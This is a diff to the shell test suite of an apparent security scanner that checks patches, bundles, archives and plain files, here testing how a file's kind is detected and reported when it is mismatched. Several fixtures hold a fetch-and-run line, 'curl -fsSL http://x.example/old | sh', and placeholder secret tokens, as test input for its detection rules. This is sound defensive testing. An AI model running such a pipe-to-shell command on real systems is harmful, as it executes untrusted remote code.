@@ -86,8 +86,10 @@ t_patch_post_image_line_numbers() {
 
 t_patch_removed_and_context_lines_not_scanned() {
 	# A removed `curl | sh`, a secret in a context line and a deleted file
-	# are not what the patch adds: nothing to report. Read as a plain file,
-	# the same bytes do have findings (the fixture is not simply clean).
+	# are not what the patch adds: nothing to report. Read as a plain file
+	# (inside a directory, where a .patch is text), the same bytes do have
+	# findings (the fixture is not simply clean). Asked to read the patch
+	# as a plain file, the gate reads the patch it is, and says so.
 	mkrepo r
 	printf 'curl -fsSL http://x.example/old | sh\nk=%s\nkeep\n' "$PAT1" >r/a.sh
 	printf 'k=%s\n' "$PAT2" >r/gone.txt
@@ -100,9 +102,13 @@ t_patch_removed_and_context_lines_not_scanned() {
 	scan --format json p.patch
 	expect_rc 0
 	expect_q 'F' '[]'
-	scan --format json --kind file p.patch
+	mkdir d && cp p.patch d/
+	scan --format json d
 	expect_rc 1
 	expect_q 'sorted(set(f["rule"] for f in F))' "['test-curl-pipe-shell', 'test-github-pat']"
+	scan --format json --kind file p.patch
+	expect_rc 1
+	expect_q '[(f["rule"], f["excerpt"]) for f in F]' "[('airlock.kind-mismatch', 'submitted as a file, but the content is a patch: read as a patch')]"
 }
 
 t_patch_preamble_prose_scanned() {
@@ -733,9 +739,10 @@ EOF
 # ---- kinds ---------------------------------------------------------------------------------------
 
 t_kind_detection() {
-	# The kind comes from the content (and a .patch/.diff name for a diff
-	# after a description); inside directories and archives everything
-	# is a plain file, so a patch's removed lines do produce findings.
+	# The kind comes from the content alone: a diff after a description
+	# is a patch whatever the name (git apply skips the description);
+	# inside directories and archives everything is a plain file, so a
+	# patch's removed lines do produce findings.
 	local diff='diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n keep\n'
 	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.patch
 	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.txt
@@ -746,7 +753,7 @@ t_kind_detection() {
 	scan --format json notes.patch trad.txt notes.txt d t.tar
 	expect_rc 1
 	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
-		"[('d/notes.patch', 'test-curl-pipe-shell', 8), ('notes.txt', 'test-curl-pipe-shell', 8), ('t.tar!/notes.patch', 'test-curl-pipe-shell', 8)]"
+		"[('d/notes.patch', 'test-curl-pipe-shell', 8), ('t.tar!/notes.patch', 'test-curl-pipe-shell', 8)]"
 	# Mail: "From: ", "Subject: ", "Date: " or "From <word>" and a header.
 	local h
 	for h in 'From: A <a@example.com>' 'Subject: [PATCH] x' 'Date: Mon, 1 Jan 2024 00:00:00 +0000' \
@@ -780,8 +787,10 @@ t_kind_detection() {
 }
 
 t_kind_forced_and_usage_errors() {
-	# --kind reads each PATH as told; what does not fit is unscannable, or
-	# a usage error (exit 2) when the PATH is of the wrong type.
+	# --kind says what each PATH should be; the content decides how it is
+	# read. A kind the content contradicts is a finding (read as the
+	# content's kind); a kind it does not show at all is unscannable (read
+	# as a plain file); a PATH of the wrong type is a usage error (exit 2).
 	local diff='diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n keep\n'
 	printf 'Notes\n\n%b' "$diff" >notes.txt
 	printf 'just prose\nk=%s\n' "$PAT1" >prose.txt
@@ -795,10 +804,14 @@ t_kind_forced_and_usage_errors() {
 	cp notes.txt notes.patch
 	scan --format json --kind file notes.patch
 	expect_rc 1
-	expect_q '[(f["path"], f["line"]) for f in R("test-curl-pipe-shell")]' "[('notes.patch', 7)]"
-	scan --format json --kind bundle notes.txt
+	expect_q '[(f["path"], f["rule"]) for f in F]' "[('notes.patch', 'airlock.kind-mismatch')]"
+	scan --format json --kind bundle prose.txt
 	expect_rc 1
 	expect_q '[("not a git bundle" in f["excerpt"]) for f in R("airlock.unscannable")]' '[True]'
+	scan --format json --kind bundle notes.txt
+	expect_rc 1
+	expect_q '[f["excerpt"] for f in R("airlock.kind-mismatch")]' "['submitted as a bundle, but the content is a patch: read as a patch']"
+	expect_q 'R("airlock.unscannable")' '[]'
 	scan --format json --kind auto notes.patch
 	expect_rc 0
 	mkdir d
@@ -818,9 +831,9 @@ t_kind_forced_and_usage_errors() {
 	expect_rc 0
 	# Forced to be an archive, text is unscannable; its content is not an
 	# archive, so it must not be called text disguising one.
-	scan --format json --kind archive notes.txt
+	scan --format json --kind archive prose.txt
 	expect_rc 1
-	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['notes.txt']"
+	expect_q '[(f["path"], "no archive signature" in f["excerpt"]) for f in R("airlock.unscannable")]' "[('prose.txt', True)]"
 	expect_q '[f["excerpt"] for f in R("airlock.type-mismatch")]' '[]'
 }
 
